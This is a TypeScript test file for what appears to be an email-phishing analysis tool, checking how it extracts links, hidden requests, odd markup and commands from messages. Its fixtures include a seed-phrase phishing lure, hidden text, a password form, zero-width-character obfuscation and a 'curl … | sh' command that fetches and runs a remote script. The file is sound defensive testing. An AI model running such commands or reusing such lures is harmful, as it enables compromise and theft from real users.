import assert from "node:assert/strict";
import { describe, it } from "node:test";
import type { MessageReading } from "@doorward/core";
import type { DraftEntry, MessageDraft } from "../../message/message-draft.ts";
import { assembleMessage } from "./assemble-message.ts";

const empty: MessageDraft = {
  path: "a.eml",
  medium: "mail",
  source: "eml",
  subject: "Hello",
  sentAt: "",
  correspondents: [],
  claims: [],
  oddities: [],
  entries: [],
  links: [],
  attachments: [],
  isBulk: false,
};

function assemble(entry: Partial<DraftEntry>, wantsView = false): MessageReading {
  const whole = { by: "them", name: "Ann", time: "", text: "", html: "", ...entry } as const;
  return assembleMessage({ ...empty, entries: [whole] }, { wantsView, unjudged: () => undefined });
}

function tellLinks({ links }: MessageReading): string[] {
  return links.map(({ via, text, shown, isQuoted, isHidden }) =>
    [via, text, shown, isQuoted ? "quoted" : "", isHidden ? "hidden" : ""].filter((word) => word !== "").join(" "),
  );
}

describe("the links of a message", () => {
  it("are those of its page with what people see, then those in its text, each once", () => {
    const html =
      '<p>See <a href="https://a.example/x">our page</a> and https://b.example/y.</p><p><a href="https://c.example/u">Unsubscribe</a></p><p><a href="https://d.example/"><img src="cid:1"></a></p><p><a href="https://b.example/y">https://b.example/y</a></p>';
    assert.deepEqual(tellLinks(assemble({ html })), [
      "anchor https://a.example/x our page",
      "unsubscribe https://c.example/u Unsubscribe",
      "picture https://d.example/",
      "anchor https://b.example/y https://b.example/y",
    ]);
  });

  it("in a plain text that is quoted are told as quoted", () => {
    const text = "Look at https://a.example/x\n\nOn Monday, Bob <b@c.example> wrote:\n> https://b.example/y\n";
    assert.deepEqual(tellLinks(assemble({ text })), ["text https://a.example/x", "text https://b.example/y quoted"]);
  });
});

describe("what a message asks", () => {
  const ask = "Please reply with your 12-word seed phrase so that we can restore your wallet.";

  it("is read from the page that people see, and not from the plain text beside it", () => {
    const both = assemble({ text: ask, html: "<p>Good morning, the invoice is paid, thank you very much.</p>" });
    assert.deepEqual(
      both.cues.filter(({ topic }) => topic === "seed-phrase"),
      [],
    );
    assert.ok(assemble({ html: `<p>${ask}</p>` }).cues.some(({ topic }) => topic === "seed-phrase"));
  });

  it("is read from the subject as well", () => {
    const whole = { by: "them", name: "Ann", time: "", text: "See below.", html: "" } as const;
    const options = { wantsView: false, unjudged: () => undefined };
    const { cues } = assembleMessage({ ...empty, subject: "Your mailbox is almost full", entries: [whole] }, options);
    assert.deepEqual(
      cues.map(({ topic, entry }) => [topic, entry]),
      [["help-desk", 0]],
    );
  });

  it("is read from the plain text where the page says nothing", () => {
    assert.ok(assemble({ text: ask, html: "<div> </div>" }).cues.some(({ topic }) => topic === "seed-phrase"));
  });

  it("is told as hidden where people do not see it", () => {
    const html = `<p>${"Good morning to all of you. ".repeat(20)}</p><p style="display:none">${ask}</p>`;
    const cue = assemble({ html }).cues.find(({ topic }) => topic === "seed-phrase");
    assert.equal(cue?.isHidden, true);
  });

  it("keeps the commands it gives", () => {
    const text = "Open the Terminal and paste this:\n\ncurl -s https://files.example/a.sh | sh\n";
    assert.deepEqual(
      assemble({ text }).commands.map((command) => command.text),
      ["curl -s https://files.example/a.sh | sh"],
    );
  });
});

describe("what is odd about the texts", () => {
  const cases: readonly (readonly [string, Partial<DraftEntry>])[] = [
    ["form-in-mail", { html: '<form action="https://a.example/"><input type="password"></form>' }],
    ["script-in-mail", { html: "<p>Good morning to all of you.</p><script>alert(1)</script>" }],
    ["picture-for-text", { html: '<a href="https://a.example/"><img src="https://a.example/b.png"></a>' }],
    ["invisible-in-words", { text: "Con\u200bfirm yo\u200bur acc\u200bount now\u200bhere pl\u200bease" }],
  ];
  for (const [kind, entry] of cases)
    it(kind, () =>
      assert.deepEqual(
        assemble(entry).oddities.map((oddity) => oddity.kind),
        [kind],
      ),
    );

  it("is nothing in a newsletter", () => {
    const html = `<div style="display:none">This week &#847;&zwnj;&nbsp;&#847;&zwnj;&nbsp;</div><p>${"Read on. ".repeat(20)}</p><a href="https://a.example/"><img src="https://a.example/b.png"></a><script type="application/ld+json">{}</script>`;
    assert.deepEqual(assemble({ html }).oddities, []);
  });
});

it("a block that only a key opens is told as not judged", () => {
  const reasons: string[] = [];
  const text = "Hello\n\n-----BEGIN PGP MESSAGE-----\n\nhQEMA\n-----END PGP MESSAGE-----\n";
  const entry = { by: "them", name: "Ann", time: "", text, html: "" } as const;
  const unjudged = (reason: string) => reasons.push(reason);
  assembleMessage({ ...empty, entries: [entry] }, { wantsView: false, unjudged });
  assert.deepEqual(reasons, ["a block encrypted with PGP"]);
});

describe("the view of a message", () => {
  it("is made where it is asked for, of text, structure and numbers in place of links", () => {
    const html =
      '<p>See <a href="https://a.example/x">our <b>page</b></a></p><img src="https://a.example/p.png" alt="Logo"><script>alert(1)</script>';
    const { view } = assemble({ html }, true);
    assert.deepEqual(view?.links, ["https://a.example/x"]);
    const told = view?.entries[0]?.tokens.map((token) => ("text" in token ? token.text : token.kind)).join("|");
    assert.match(told ?? "", /See ?\|link\|our/u);
    assert.doesNotMatch(JSON.stringify(view?.entries[0]?.tokens), /alert|p\.png/u);
    assert.equal(assemble({ html }).view, undefined);
  });

  it("of a plain text keeps its lines", () => {
    const { view } = assemble({ text: "one\nhttps://a.example/x\n" }, true);
    assert.deepEqual(
      view?.entries[0]?.tokens.map(({ kind }) => kind),
      ["open", "text", "link", "text", "link-end", "text", "close"],
    );
  });
});
